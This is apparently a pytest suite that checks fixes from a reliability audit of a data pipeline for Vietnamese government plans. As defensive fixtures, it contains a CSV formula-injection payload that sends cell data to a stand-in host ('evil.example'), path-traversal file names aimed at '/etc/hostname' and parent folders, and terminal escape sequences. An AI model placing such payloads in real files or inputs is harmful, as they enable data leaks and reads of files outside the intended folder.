"""The reliability audit's defects (``../shared/reviews/reliability-audit.md``), each tested.

Each test names the defect (D1 ...) and the audit case it reproduces; each fails
on the code the audit examined. The kill-at-every-step suite is ``test_faults.py``.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import warnings
from pathlib import Path

import pandas as pd
import pytest

pytest.importorskip("parstats.targets")

import importlib  # noqa: E402

from parstats import processed  # noqa: E402
from parstats.cli import main  # noqa: E402
from parstats.errors import (  # noqa: E402
    BusyError,
    DamagedDataError,
    InputError,
    NotAPlanWarning,
    UnreadInputWarning,
)
from parstats.extract import extract_paths  # noqa: E402

build_module = importlib.import_module("parstats.build")
build = build_module.build

REPO = Path(__file__).resolve().parents[1]
SEED = REPO / "data" / "raw" / "plans" / "003_cfd631ae85fcb6d5.txt"
PARSTATS = [sys.executable, "-m", "parstats"]


def add_plan(home: Path, name: str, data: bytes | str, **override: str) -> Path:
    """Put a plan into the scratch project's data/raw/plans with its manifest row."""
    plans = home / "data" / "raw" / "plans"
    path = plans / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    manifest = plans / "manifest.csv"
    manifest.chmod(0o644)
    header = manifest.read_text(encoding="utf-8").splitlines()[0].split(",")
    cells = {"file": name, "sha256": hashlib.sha256(path.read_bytes()).hexdigest(),
             "bytes": str(path.stat().st_size), "source": "test", **override}
    with open(manifest, "a", encoding="utf-8") as fh:
        fh.write(",".join(cells.get(column, "") for column in header) + "\n")
    return path


@pytest.fixture(scope="module")
def built_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A scratch project built once per module (under umask 022): copied by ``built_home``."""
    home = tmp_path_factory.mktemp("built") / "project"
    shutil.copytree(REPO / "data" / "raw", home / "data" / "raw")
    (home / "reports").mkdir()
    shutil.copytree(REPO / "notebooks", home / "notebooks")
    old_home, old_umask = os.environ.get("PARSTATS_HOME"), os.umask(0o022)
    os.environ["PARSTATS_HOME"] = str(home)
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            build()
    finally:
        os.umask(old_umask)
        if old_home is None:
            os.environ.pop("PARSTATS_HOME", None)
        else:
            os.environ["PARSTATS_HOME"] = old_home
    return home


@pytest.fixture()
def built_home(built_template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A scratch project that has been built once (the link and its generation copied)."""
    home = tmp_path / "project"
    shutil.copytree(built_template, home, symlinks=True)
    monkeypatch.setenv("PARSTATS_HOME", str(home))
    return home


def snapshot(folder: Path) -> dict[str, str]:
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.iterdir()) if p.is_file()
    }


def run(*args: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([*PARSTATS, *args], capture_output=True, text=True, check=False,
                          **kwargs)


# --------------------------------------------------------------------------- D1: one unit


def test_d1_build_publishes_a_generation_behind_one_link(built_home: Path):
    link = built_home / "data" / "processed"
    generation = link.resolve()
    assert link.is_symlink() and os.readlink(link) == f".processed/{generation.name}"
    assert generation.parent == built_home / "data" / ".processed"
    package = json.loads((link / "datapackage.json").read_text(encoding="utf-8"))
    files = package["parstats"]["files"]
    on_disk = {p.name for p in link.iterdir()} - {"datapackage.json"}
    assert set(files) == on_disk  # every file listed, with its hash and size
    for name, entry in files.items():
        assert entry["sha256"] == hashlib.sha256((link / name).read_bytes()).hexdigest()
        assert entry["bytes"] == (link / name).stat().st_size
    # Users and notebooks still open data/processed/<table> where the README says.
    assert len(pd.read_parquet(link / "targets.parquet")) == len(build_module.load_targets())


def test_d1_generations_are_named_by_content_and_the_previous_one_is_kept(built_home: Path):
    generations = built_home / "data" / ".processed"
    a = (built_home / "data" / "processed").resolve()
    (generations / "0000000000000000").mkdir()  # an older generation
    add_plan(built_home, "005_extra.txt", SEED.read_bytes())
    b = build().generation
    assert b != a and {p.name for p in generations.iterdir() if p.is_dir()} == {a.name, b.name}
    assert build().generation == b  # byte-identical build: same generation, no switch


def test_d1_every_crash_point_leaves_one_whole_generation(built_home: Path, monkeypatch):
    """Audit B15: a crash between the renames of the set left new documents beside old targets.

    The build of B is stopped (an exception where a signal would land) after
    each publishing step and a sample of the file writes; ``test_faults.py``
    kills real processes after every step.
    """
    import parstats.io

    link = built_home / "data" / "processed"
    generations = built_home / "data" / ".processed"
    a = snapshot(link)
    a_name = link.resolve().name
    saved = built_home.parent / "saved"
    shutil.copytree(generations, saved / ".processed")
    add_plan(built_home, "005_extra.txt", SEED.read_bytes())
    captured = {}
    real_write = build_module.write_outputs

    def capture(tables, out_dir, **kwargs):
        captured.update(tables=tables, out_dir=out_dir, **kwargs)
        return real_write(tables, out_dir, **kwargs)

    operations: list[str] = []
    monkeypatch.setattr(build_module, "write_outputs", capture)
    monkeypatch.setattr(parstats.io, "fault_point", operations.append)
    monkeypatch.setattr(processed, "fault_point", operations.append)
    build()
    b = snapshot(link)
    assert a != b and len(operations) > 40
    publishing = [i for i, op in enumerate(operations, start=1)
                  if not op.startswith(("create", "write", "rename ."))]
    steps = sorted({*publishing, 1, 2, 3, len(operations) // 2})
    for step in steps:
        shutil.rmtree(generations)
        shutil.copytree(saved / ".processed", generations)
        link.unlink()
        link.symlink_to(f".processed/{a_name}")
        assert snapshot(link) == a
        counter = iter(range(1, 10_000))

        def crash(what: str, step: int = step, counter=counter) -> None:
            if next(counter) == step:
                raise KeyboardInterrupt(f"killed after {what}")

        monkeypatch.setattr(parstats.io, "fault_point", crash)
        monkeypatch.setattr(processed, "fault_point", crash)
        with pytest.raises(KeyboardInterrupt):
            real_write(captured["tables"], captured["out_dir"], sources=captured["sources"],
                       n_documents=captured["n_documents"], options=captured["options"])
        state = snapshot(link)
        assert state in (a, b), f"mixed state after step {step} ({operations[step - 1]})"
        docs, targets = build_module.load_documents(), build_module.load_targets()
        assert set(targets["doc"]) <= set(docs["doc"])
        assert ("005_extra" in set(docs["doc"])) == ("005_extra" in set(targets["doc"]))
        assert not list(generations.glob(".staging-*"))  # the interrupted build tidied up


def test_d1_plain_folder_is_moved_aside_and_kept_until_the_next_build(project_home: Path):
    link = project_home / "data" / "processed"
    (link / "targets.parquet").write_bytes(b"old build")
    first = build().generation
    assert link.is_symlink()
    legacy = [p for p in first.parent.iterdir() if p.name.startswith("legacy-")]
    assert len(legacy) == 1 and (legacy[0] / "targets.parquet").read_bytes() == b"old build"
    add_plan(project_home, "005_extra.txt", SEED.read_bytes())
    build()
    assert not legacy[0].exists()  # removed by the next successful build


def test_d1_a_reader_whose_generation_was_removed_starts_again(built_home: Path):
    a = (built_home / "data" / "processed").resolve()
    add_plan(built_home, "005_extra.txt", SEED.read_bytes())
    b = build().generation
    link = built_home / "data" / "processed"
    calls = []

    def reader(gen: processed.Generation) -> pd.DataFrame:
        calls.append(gen.path)
        if len(calls) == 1:
            # As if builds published another generation and removed this one meanwhile.
            temporary = link.parent / "tmp-link"
            temporary.symlink_to(os.path.relpath(a, link.parent))
            os.replace(temporary, link)
            shutil.rmtree(gen.path)
        return build_module.load_table("documents", generation=gen)

    assert "005_extra" not in set(processed.read(reader)["doc"])
    assert calls == [b, a]


# --------------------------------------------------------------------------- D6: the lock


def test_d6_a_second_build_is_refused_naming_the_holder(project_home: Path):
    """Audit B17: two builds at once deleted each other's staging folder."""
    with processed.build_lock():
        done = run("build")
    assert done.returncode == 2, done.stderr
    assert "another build is running" in done.stderr
    assert f"pid {os.getpid()}" in done.stderr and "Traceback" not in done.stderr
    assert not (project_home / "data" / "processed").is_symlink()  # nothing written


def test_d6_the_lock_is_freed_when_its_holder_is_killed(project_home: Path):
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import time; from parstats import processed\n"
         "with processed.build_lock():\n    print('held', flush=True); time.sleep(60)"],
        stdout=subprocess.PIPE, text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(BusyError, match=f"pid {holder.pid} on .*started"):
            build()
        holder.send_signal(signal.SIGKILL)
        holder.wait(10)
        assert build().n_documents == 5
    finally:
        holder.kill()
        holder.wait()


def test_d6_build_can_wait_for_the_holder(project_home: Path):
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import time; from parstats import processed\n"
         "with processed.build_lock():\n    print('held', flush=True); time.sleep(1.5)"],
        stdout=subprocess.PIPE, text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        assert build(wait=30).n_documents == 5
    finally:
        holder.kill()
        holder.wait()


def test_d6_leftovers_of_killed_builds_are_removed_by_the_next(built_home: Path):
    project_home = built_home
    generations = project_home / "data" / ".processed"
    (generations / ".staging-99999-x").mkdir()
    (generations / ".staging-99999-x" / "targets.csv").write_text("half\n")
    (project_home / "data" / ".processed.link-99999").symlink_to(".processed/nowhere")
    build()
    assert not (generations / ".staging-99999-x").exists()
    assert not (project_home / "data" / ".processed.link-99999").is_symlink()


# --------------------------------------------------------------------------- D7: damaged files


def _truncate(path: Path, size: int = 1000) -> None:
    data = path.read_bytes()
    real = path.resolve()
    real.chmod(0o644)
    real.write_bytes(data[:size])


@pytest.mark.parametrize("table", ["targets", "indices"])
def test_d7_a_truncated_table_says_it_is_damaged_and_how_to_fix_it(built_home: Path, table):
    """Audit B19: a truncated Parquet file gave a pyarrow traceback."""
    project_home = built_home
    _truncate(project_home / "data" / "processed" / f"{table}.parquet")
    with pytest.raises(DamagedDataError, match=rf"{table}.parquet.*run `parstats build`"):
        build_module.load_table(table)
    from parstats import report_data

    with pytest.raises(DamagedDataError, match="run `parstats build`"):
        report_data.load_table(table)


def test_d7_cli_names_the_damaged_file(built_home: Path):
    project_home = built_home
    _truncate(project_home / "data" / "processed" / "indices.parquet", 5000)
    done = run("indices", "show", "--province", "Dak Lak")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "indices.parquet" in done.stderr and "parstats build" in done.stderr


def test_d7_a_table_from_another_build_is_refused(built_home: Path):
    """Audit B20 and D1: a file copied from elsewhere no longer matches datapackage.json."""
    project_home = built_home
    link = project_home / "data" / "processed"
    other = pd.read_parquet(link / "targets.parquet").head(3)
    target = link.resolve() / "targets.parquet"
    target.chmod(0o644)
    other.to_parquet(target)
    with pytest.raises(DamagedDataError, match="from another build"):
        build_module.load_targets()


def test_d7_a_damaged_plain_folder_table_is_named_too(project_home: Path):
    (project_home / "data" / "processed" / "targets.parquet").write_bytes(b"PAR1 not parquet")
    with pytest.raises(DamagedDataError, match="cannot be read as Parquet"):
        build_module.load_targets()


def test_d7_a_damaged_descriptor_is_named(built_home: Path):
    project_home = built_home
    descriptor = (project_home / "data" / "processed" / "datapackage.json").resolve()
    descriptor.chmod(0o644)
    descriptor.write_text('{"resources": [')
    with pytest.raises(DamagedDataError, match="datapackage.json.*run `parstats build`"):
        build_module.load_targets()


# --------------------------------------------------------------------------- D4: formulas in CSVs


def test_d4_formula_cells_are_neutralised_in_csv_and_exact_in_parquet(tmp_path: Path):
    from parstats.io import write_frame

    frame = pd.DataFrame({
        "text": ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+ bullet", "- bullet",
                 "@SUM(A1)", "\tTab", "\rCR", "-3.5", "plain", None],
        "number": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
    })
    write_frame(frame, tmp_path / "t.csv")
    write_frame(frame, tmp_path / "t.parquet")
    import csv

    with open(tmp_path / "t.csv", encoding="utf-8", newline="") as fh:
        cells = list(csv.DictReader(fh))
    assert [c["text"] for c in cells] == [
        '\'=HYPERLINK("http://evil.example/?d="&A1,"x")', "'+ bullet", "'- bullet", "'@SUM(A1)",
        "'\tTab", "'\rCR", "-3.5", "plain", "",
    ]
    assert [c["number"] for c in cells][:3] == ["-1.5", "2.0", "-3.0"]  # numbers stay numbers
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "t.parquet"), frame)


EVIL_PLAN = (
    "ỦY BAN NHÂN DÂN TỈNH ĐẮK LẮK\nKẾ HOẠCH\nCải cách hành chính năm 2023\n\nI. MỤC TIÊU\n"
    "1. Chỉ tiêu\n"
    '=HYPERLINK("http://evil.example/?x="&A1,"click") Tối thiểu 80% hồ sơ được giải quyết '
    "trực tuyến năm 2023.\n"
)


def test_d4_a_plan_sentence_cannot_become_a_formula_in_targets_csv(project_home: Path):
    """Audit D4 / R8: a sentence starting with =HYPERLINK landed in targets.csv as a formula."""
    add_plan(project_home, "005_evil.txt", EVIL_PLAN)
    build()
    link = project_home / "data" / "processed"
    import csv

    for path in sorted(link.glob("*.csv")):
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell.rstrip("%").replace(",", ""))  # only numbers start so
    parquet = pd.read_parquet(link / "targets.parquet")
    assert parquet["sentence"].str.startswith("=HYPERLINK").any()  # exact text kept there
    assert parquet["sentence"].str.match(r"[+-] ").any()  # the shipped plans' bullets


# --------------------------------------------------------------------------- D9, D16-D19, D23


@pytest.mark.parametrize(
    "name",
    ["../../../../outside.txt", "/etc/hostname", "sub/../../x.txt", "..\\x.txt",
     "plan.exe", "plan.pdf.zip", "C:/x.pdf", "a\x1b[2J.docx"],
)
def test_d9_manifest_paths_stay_inside_the_plans_folder(project_home: Path, name: str):
    """Audit B8: foreign files were read and published as plans."""
    manifest = project_home / "data" / "raw" / "plans" / "manifest.csv"
    manifest.chmod(0o644)
    with open(manifest, "a", encoding="utf-8") as fh:
        fh.write(f"{name},{'a' * 64},1,x,,,,,,,,\n")
    with pytest.raises(InputError, match=r"manifest.csv, line 7") as info:
        build()
    assert "inside data/raw/plans" in str(info.value) or (
        "must be a plan file ending in .pdf, .docx, .doc, .html, .htm, .txt" in str(info.value)
    )


@pytest.mark.parametrize("name", ["plan.PDF", "sub/plan.docx", "plan.Htm", "plan.doc"])
def test_d9_every_plan_suffix_in_any_case_is_a_manifest_name(name: str):
    """Plans are read in every format (issue 15); the confinement rules stay the same."""
    assert build_module.check_plan_name(name) == name


def test_d9_a_symbolic_link_out_of_the_plans_folder_is_refused(project_home: Path, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_bytes(SEED.read_bytes())
    plans = project_home / "data" / "raw" / "plans"
    add_plan(project_home, "005_link.txt", SEED.read_bytes())
    (plans / "005_link.txt").unlink()
    (plans / "005_link.txt").symlink_to(outside)
    with pytest.raises(InputError, match="leads outside"):
        build()


def test_d16_manifest_saved_by_excel_with_a_bom_and_crlf_builds(project_home: Path):
    manifest = project_home / "data" / "raw" / "plans" / "manifest.csv"
    manifest.chmod(0o644)
    text = manifest.read_text(encoding="utf-8")
    manifest.write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))
    assert build().n_documents == 5


def test_d17_manifest_bytes_are_checked(project_home: Path):
    manifest = project_home / "data" / "raw" / "plans" / "manifest.csv"
    manifest.chmod(0o644)
    manifest.write_text(manifest.read_text().replace(",58788,", ",1,"))
    with pytest.raises(InputError, match="has 58788 bytes but manifest.csv line 2 says 1"):
        build()


@pytest.mark.parametrize(
    "name", ["009_a.TXT", "009_a.Txt", "plan.docx", "notes.text", "scan.PDF", "page.HTM"]
)
def test_d18_unlisted_files_of_any_case_are_refused(project_home: Path, name: str):
    (project_home / "data" / "raw" / "plans" / name).write_bytes(b"x")
    with pytest.raises(InputError, match=rf"not listed.*{name}"):
        build()


def test_d19_datapackage_lists_only_the_index_files_read(project_home: Path):
    indices = project_home / "data" / "raw" / "indices"
    (indices / "par2024.xlsx").write_bytes(b"PK\x03\x04 stray workbook")
    with pytest.warns(UnreadInputWarning, match=r"par2024.xlsx.*not read by the build"):
        build()
    package = json.loads(
        (project_home / "data" / "processed" / "datapackage.json").read_text(encoding="utf-8")
    )
    paths = {s["path"] for s in package["sources"]}
    assert "data/raw/indices/observations.csv" in paths
    assert not any(p.endswith(".xlsx") for p in paths)


def test_d23_an_inverted_period_is_refused(project_home: Path):
    add_plan(project_home, "005_x.txt", SEED.read_bytes(), period_start="2030", period_end="2020")
    with pytest.raises(InputError, match="line 7: period_start 2030 is after period_end 2020"):
        build()


def test_d23_an_inverted_period_from_a_document_fails_that_document():
    from parstats.extract import check_period
    from parstats.metadata import DocumentMeta

    check_period(DocumentMeta(period_start=2021, period_end=2025), "x.txt")
    with pytest.raises(InputError, match="period_start 2030 is after period_end 2020"):
        check_period(DocumentMeta(period_start=2030, period_end=2020), "x.txt")


# ---------------------------------------------------------------------- extract: D12-14, 21, 22


def test_d12_a_worker_that_dies_loses_only_its_document(tmp_path: Path, monkeypatch):
    """Audit P28: an OOM-killed worker lost every document, and named none."""
    import parstats.extract as extract

    real = extract.read_document

    def read_or_die(path, *, override=None, **options):
        if "crash" in Path(path).name:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(path, override=override, **options)

    monkeypatch.setattr(extract, "read_document", read_or_die)  # forked workers inherit it
    names = ["001_a.txt", "002_crash.txt", "003_b.txt", "004_c.txt"]
    for name in names:
        shutil.copy(SEED, tmp_path / name)
    result = extract_paths([tmp_path / n for n in names], workers=2)
    assert list(result.docs) == ["001_a", "003_b", "004_c"]
    assert [f.path for f in result.failures] == [str(tmp_path / "002_crash.txt")]
    assert "worker process extracting it died" in result.failures[0].reason


def test_d13_outputs_never_overwrite_raw_data(built_home: Path, tmp_path: Path):
    """Audit P27: --docs-out replaced data/raw/indices/observations.csv."""
    project_home = built_home
    raw = project_home / "data" / "raw" / "indices" / "observations.csv"
    before = raw.read_bytes()
    done = run("extract", str(SEED), "--out", str(tmp_path / "t.csv"), "--docs-out", str(raw))
    assert done.returncode == 2 and "must not write into" in done.stderr
    assert raw.read_bytes() == before and not (tmp_path / "t.csv").exists()
    processed_csv = project_home / "data" / "processed" / "targets.csv"
    done = run("extract", str(SEED), "--out", str(processed_csv))
    assert done.returncode == 2 and "rebuilt as a whole" in done.stderr


def test_d13_one_path_cannot_be_both_outputs(tmp_path: Path, capsys):
    """Audit P26: --out and --docs-out on one file kept only the documents."""
    same = tmp_path / "same.csv"
    assert main(["extract", str(SEED), "--out", str(same), "--docs-out", str(same)]) == 2
    assert "--docs-out is the same file as --out" in capsys.readouterr().err
    assert not same.exists()


@pytest.mark.parametrize(
    ("out", "message"),
    [("/proc/o.csv", "cannot write in /proc"), ("isdir.csv", "names a folder")],
)
def test_d14_unwritable_outputs_are_refused_before_the_work(tmp_path, capsys, out, message):
    """Audit P23/P24: a traceback after all the extraction work."""
    if out == "isdir.csv":
        (tmp_path / out).mkdir()
        out = str(tmp_path / out)
    assert main(["extract", str(SEED), "--out", out]) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err


def test_d14_analyse_checks_its_output_first(project_home: Path, capsys):
    assert main(["analyse", "ambition", "--out", "x.xlsx"]) == 2
    assert "--out must end in .csv or .parquet" in capsys.readouterr().err
    assert main(["analyse", "delivery", "--out", "/proc/x.csv"]) == 2
    assert "cannot write in /proc" in capsys.readouterr().err


def test_d14_a_full_disk_during_a_build_is_a_message(project_home: Path):
    import resource

    def small_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, 1 << 20))

    done = subprocess.run([*PARSTATS, "build"], capture_output=True, text=True, check=False,
                          preexec_fn=small_files)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "File too large" in done.stderr and "free some space" in done.stderr
    assert not (project_home / "data" / "processed").is_symlink()
    assert not list((project_home / "data" / ".processed").glob(".staging-*"))
    assert not (project_home / "data" / "processed").is_symlink()  # nothing published


def test_d14_output_the_terminal_cannot_encode_is_replaced(tmp_path: Path):
    """Audit I27: PYTHONIOENCODING=ascii gave a UnicodeEncodeError traceback."""
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}
    done = run("extract", str(SEED), "--out", str(tmp_path / "kế hoạch.csv"), env=env)
    assert done.returncode == 0 and "Traceback" not in done.stderr
    assert "k? ho?ch.csv" in done.stdout


@pytest.mark.parametrize(
    "args", [("indices", "show", "--province", "Dak Lak", "--sources"), ("evaluate", "--help")]
)
def test_d14_a_closed_pipe_ends_quietly(project_home: Path, args):
    """Audit: ``parstats build | head -1`` gave a BrokenPipeError traceback."""
    proc = subprocess.Popen([*PARSTATS, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    proc.stdout.close()  # the reader goes away before the command prints
    err = proc.stderr.read().decode()
    code = proc.wait(120)
    assert "Traceback" not in err and "BrokenPipeError" not in err, err
    assert code in (0, 141)


def test_d21_a_symlink_loop_is_named(tmp_path: Path):
    (tmp_path / "loop1.txt").symlink_to(tmp_path / "loop2.txt")
    (tmp_path / "loop2.txt").symlink_to(tmp_path / "loop1.txt")
    (tmp_path / "broken.txt").symlink_to(tmp_path / "gone.txt")
    result = extract_paths([tmp_path / "loop1.txt", tmp_path / "broken.txt"])
    reasons = [f.reason for f in result.failures]
    assert reasons[0].startswith("symbolic link loop")
    assert reasons[1].startswith("broken symbolic link") and "gone.txt" in reasons[1]


def test_d22_a_file_that_is_not_a_plan_is_warned_about(tmp_path: Path):
    """Audit P12: 2,000 lines of numbers: exit 0, no metadata, no warning."""
    numbers = tmp_path / "numbers.txt"
    numbers.write_text("".join(f"{i}\t{i * 3.5}\n" for i in range(2000)), encoding="utf-8")
    with pytest.warns(NotAPlanWarning, match="numbers.txt: not a plan: article.*no province, "
                      "no date found; its targets are not kept") as caught:
        result = extract_paths([numbers])
    assert len([w for w in caught if w.category is NotAPlanWarning]) == 1  # one signal
    assert list(result.docs) == ["numbers"]
    row = result.documents.iloc[0]
    assert (row["kind"], row["targets_kept"], row["n_targets"]) == ("article", False, 0)
    with warnings.catch_warnings():
        warnings.simplefilter("error", NotAPlanWarning)
        extract_paths([SEED])  # a plan is not warned about


def test_d22_a_plan_with_no_province_date_or_target_is_still_warned_about(tmp_path: Path):
    bare = tmp_path / "bare.txt"
    bare.write_text("KẾ HOẠCH\nCải cách hành chính\n\nI. MỤC ĐÍCH\nNâng cao chất lượng.\n",
                    encoding="utf-8")
    with pytest.warns(NotAPlanWarning, match="no province, no date and no target found"):
        result = extract_paths([bare])
    assert result.documents["kind"].tolist() == ["plan"]


def test_d22_binary_documents_are_read_as_what_their_bytes_are(tmp_path: Path):
    """A PDF named .txt is read as a PDF (issue 15), and a damaged one is named as such."""
    plan = tmp_path / "plan.txt"
    plan.write_bytes(b"%PDF-1.4 1 0 obj")
    result = extract_paths([plan])
    assert result.failures[0].reason.startswith("not a readable PDF")
    from parstats.formats.samples import Run, font_pdf

    plan.write_bytes(font_pdf([[[Run("KE HOACH: toi thieu 80% ho so truc tuyen")]]]))
    with pytest.warns(UserWarning, match="named .txt but its bytes are PDF"):
        result = extract_paths([plan])
    assert result.documents["source_format"].tolist() == ["pdf-text"]


# --------------------------------------------------------------------------- D15, D20, D27, D28


def test_d15_a_label_with_mathtext_is_drawn_as_text():
    """Audit R17: a plan named 006_dl_$^$.txt broke its report (ParseSyntaxException)."""
    import io

    from parstats import plots

    fig = plots.new_figure()
    table = pd.DataFrame([[1, 2]], index=["006_dl_$^$"], columns=["$x_{", "area"])
    plots.heatmap(fig.axes[0], table)
    fig.savefig(io.BytesIO(), format="png")
    labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
    assert labels == [r"006_dl_\$^\$"]


def test_d20_leftover_folders_are_not_report_inputs(project_home: Path):
    """Audit B25: a leftover .build-* folder busted the report cache."""
    from parstats import reports

    folder = project_home / "data" / "processed"
    (folder / "targets.parquet").write_bytes(b"t")
    first = reports.snapshot_inputs()
    (folder / ".build-stale").mkdir()
    (folder / ".build-stale" / "targets.csv").write_text("junk")
    (folder / ".targets.parquet.x.tmp").write_text("junk")
    assert reports.snapshot_inputs() == first
    assert [name for name, _ in first.processed] == ["targets.parquet"]


def test_d27_outputs_get_the_mode_of_a_new_file(tmp_path: Path):
    """Audit R18: reports, results.parquet and extract outputs were written 0600."""
    from parstats.io import write_frame, write_text

    old = os.umask(0o022)
    try:
        write_text(tmp_path / "index.html", "<html></html>")
        write_frame(pd.DataFrame({"a": [1]}), tmp_path / "r.parquet")
    finally:
        os.umask(old)
    assert (tmp_path / "index.html").stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "r.parquet").stat().st_mode & 0o777 == 0o644


def test_d27_generations_are_readable(built_template: Path):
    generation = (built_template / "data" / "processed").resolve()
    assert generation.stat().st_mode & 0o777 == 0o755
    assert all(p.stat().st_mode & 0o777 == 0o644 for p in generation.iterdir())


def test_d28_an_empty_filter_is_not_a_missing_build(built_home: Path):
    done = run("reports", "--year", "1995", "--no-progress")
    assert done.returncode == 1
    assert "matches --year 1995" in done.stderr and "run `parstats build`" not in done.stderr


# --------------------------------------------------------------------------- terminal escapes


def test_terminal_escapes_are_stripped_from_what_is_printed(tmp_path: Path, capsys):
    evil = tmp_path / "\x1b]0;pwned\x07\x1b[2J\x9b31m.txt"
    assert main(["extract", str(evil), "--out", str(tmp_path / "o.csv")]) == 1
    err = capsys.readouterr().err
    assert "pwned" in err and "\x1b" not in err and "\x07" not in err and "\x9b" not in err


def test_sigterm_stops_a_build_like_ctrl_c(project_home: Path):
    proc = subprocess.Popen([*PARSTATS, "build"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    lock = project_home / "data" / ".processed" / "build.lock"
    while proc.poll() is None and not lock.exists():  # the build has started its work
        time.sleep(0.01)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143 and "terminated" in err and "Traceback" not in err
    assert not list((project_home / "data" / ".processed").glob(".staging-*"))
    assert not (project_home / "data" / "processed").is_symlink()  # nothing published


def test_pinned_loaders_read_one_build(built_home: Path):
    before = len(build_module.load_documents())
    with processed.pinned() as generation:
        add_plan(built_home, "005_extra.txt", SEED.read_bytes())
        assert build().generation != generation.path
        assert len(build_module.load_documents()) == before  # still the pinned build
        assert len(build_module.load_targets()) == int(
            build_module.load_documents()["n_targets"].sum()
        )
    assert len(build_module.load_documents()) == before + 1


def test_a_pinned_generation_that_was_removed_is_an_error(built_home: Path, monkeypatch):
    from parstats import report_data

    monkeypatch.setenv(processed.PIN_ENV, str(built_home / "data" / ".processed" / "gone"))
    with pytest.raises(DamagedDataError, match="no longer exists"):
        report_data.load_tables(("documents",))
